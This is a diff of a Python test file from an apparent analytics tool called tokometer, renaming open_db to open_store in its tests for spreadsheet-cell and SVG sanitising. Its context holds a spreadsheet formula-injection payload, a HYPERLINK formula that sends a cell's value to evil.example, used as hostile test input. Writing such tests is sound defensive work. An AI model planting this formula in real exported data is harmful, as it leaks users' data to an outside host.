@@ -18,7 +18,7 @@ from tokometer.analytics import report
 from tokometer.analytics.cells import spreadsheet_safe
 from tokometer.analytics.charts import report_chart, svg
 from tokometer.cli import main
-from tokometer.ledger import SQLiteLedger, open_db
+from tokometer.ledger import SQLiteLedger, open_store
 from tokometer.ledger.signer import load_signer
 
 TENANT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -172,7 +172,7 @@ def test_attribution_from_a_real_gateway_is_neutralised_too(gateway: Gateway, ca
 def test_a_chart_in_a_page_carries_no_markup_from_a_name(config):
     """The dashboard puts charts' SVG in its pages as it is: names in it must stay text."""
     store = Path(config).with_name("t.db")
-    conn = open_db(store)
+    conn = open_store(store)
     try:
         drawn = svg(report_chart, report(conn, ["agent"]), ["agent"], None)
     finally:
